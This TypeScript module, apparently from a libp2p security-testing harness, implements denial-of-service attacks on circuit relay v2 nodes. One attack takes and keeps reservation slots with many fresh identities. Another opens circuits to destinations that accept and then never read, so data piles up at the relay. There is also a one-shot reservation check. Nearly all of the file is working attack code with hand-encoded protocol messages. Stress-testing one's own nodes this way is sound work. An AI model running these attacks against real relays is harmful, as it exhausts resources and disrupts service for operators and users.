/**
 * Circuit relay v2 attacks on a node started with `--relay`: many fresh identities taking
 * reservation slots, and circuits whose destination (also the attacker's) never reads. The hop and
 * stop messages are circuit v2's protobuf, encoded by hand: HopMessage { type = 1 (RESERVE 0,
 * CONNECT 1, STATUS 2), peer = 2, status = 5 }, StopMessage { type = 1 (CONNECT 0, STATUS 1),
 * status = 4 }, Peer { id = 1 }; status OK = 100.
 */
import { randomBytes } from 'node:crypto'
import { generateKeyPair } from '@libp2p/crypto/keys'
import type { Connection, Libp2p, Stream } from '@libp2p/interface'
import type { Attack, AttackContext } from './common.ts'
import { attackerNode, holdUntil, lpFrame, pbField, pbVarints, readFrame, rateLimiter, sendWithBackpressure, sleep, workers } from './common.ts'

const HOP = '/libp2p/circuit/relay/0.2.0/hop'
const STOP = '/libp2p/circuit/relay/0.2.0/stop'
const OK = 100
const STOP_STATUS_OK = new Uint8Array([...pbField(1, 1), ...pbField(4, OK)])

/** Dials the relay and asks for a reservation; resolves with the status (OK = 100) or an error text. */
export async function reserve (node: Libp2p<any>, ctx: AttackContext): Promise<number | string> {
  try {
    const stream = await node.dialProtocol(ctx.target, HOP, { signal: AbortSignal.timeout(5_000) })
    stream.send(lpFrame(pbField(1, 0)))
    const answer = pbVarints(await readFrame(stream, 5_000))
    await stream.close().catch(() => {})
    return answer.get(5) ?? 'no status'
  } catch (err: any) {
    return String(err.message).slice(0, 120)
  }
}

/** Row 7: `identities` fresh peers over `sources` addresses each take a slot, and keep or retake it. */
const relayReservations: Attack = async (ctx) => {
  const count = ctx.num('identities', 100)
  const limiter = rateLimiter(ctx.num('rate', 4 * ctx.num('sources', 1)))
  const statuses: Record<string, number> = {}
  let first = true
  await workers(count, async (i) => {
    await limiter.take()
    if (ctx.over) return
    const node = await attackerNode(ctx.source(i), { privateKey: await generateKeyPair('Ed25519') })
    try {
      while (!ctx.over) {
        const status = await reserve(node, ctx)
        statuses[String(status)] = (statuses[String(status)] ?? 0) + 1
        ctx.count(status === OK ? 'reserved' : 'refused')
        if (first) { first = false; ctx.started() }
        // hold the slot while the connection lives; retake it when the relay drops us
        while (!ctx.over && node.getConnections().length > 0) await sleep(250)
        if (!ctx.over) await sleep(1_000)
      }
    } finally {
      try { await node.stop() } catch { /* stopping anyway */ }
    }
  })
  return { statuses }
}

/** The honest check for row 7: one fresh identity from 127.0.0.1 asks once, prints the status. */
const relayReserveOnce: Attack = async (ctx) => {
  const node = await attackerNode('127.0.0.1')
  ctx.started()
  const status = await reserve(node, ctx)
  await node.stop()
  return { status, ok: status === OK }
}

/** Answers the relay's STOP CONNECT with OK, then stops reading: the circuit's data piles up upstream. */
function neverReadingDestination (ctx: AttackContext): (stream: Stream) => Promise<void> {
  return async (stream) => {
    try {
      await readFrame(stream, 5_000)
      stream.send(lpFrame(STOP_STATUS_OK))
      stream.pause()
      ctx.count('circuitsAccepted')
    } catch { ctx.count('stopErrors') }
  }
}

/** Row 8: circuits through the relay to destinations that never read, the sources pushing data. */
const relayStalledCircuits: Attack = async (ctx) => {
  const destinations = await Promise.all(Array.from({ length: ctx.num('destinations', 4) }, async (_, i) => attackerNode(ctx.source(i))))
  for (const d of destinations) {
    await d.handle(STOP, neverReadingDestination(ctx), { maxInboundStreams: 10_000, runOnLimitedConnection: true })
    const status = await reserve(d, ctx)
    if (status !== OK) ctx.report('destination-not-reserved', { status })
  }
  const source = await attackerNode(ctx.source(0))
  const conns: Connection[] = []
  for (let i = 0; i < ctx.num('connections', 4) && !ctx.over; i++) {
    try { conns.push(await source.dial(ctx.target, { force: i > 0, signal: AbortSignal.timeout(5_000) })) } catch { await sleep(250); i-- }
  }
  ctx.started()
  const push = ctx.num('bytes', 5 * 1024 * 1024)
  const chunk = randomBytes(64 * 1024)
  await workers(conns.length * ctx.num('circuits', 32), async (i) => {
    const d = destinations[i % destinations.length]
    let stream: Stream
    try {
      stream = await conns[i % conns.length].newStream(HOP, { signal: AbortSignal.timeout(5_000) })
      stream.send(lpFrame(new Uint8Array([...pbField(1, 1), ...pbField(2, pbField(1, d.peerId.toMultihash().bytes))])))
      const status = pbVarints(await readFrame(stream, 5_000)).get(5)
      if (status !== OK) { ctx.count(`connectStatus${status}`); return }
      ctx.count('circuits')
    } catch { ctx.count('circuitErrors'); return }
    for (let sent = 0; sent < push && !ctx.over && stream.status === 'open';) {
      if (!await sendWithBackpressure(stream, chunk, ctx.until)) break
      sent += chunk.byteLength
      ctx.count('bytesPushed', chunk.byteLength)
    }
  })
  await holdUntil(ctx)
  await Promise.all([source, ...destinations].map(async n => { try { await n.stop() } catch { /* stopping anyway */ } }))
  return undefined
}

export const relayAttacks: Record<string, Attack> = {
  'relay-reservations': relayReservations,
  'relay-reserve-once': relayReserveOnce,
  'relay-stalled-circuits': relayStalledCircuits
}
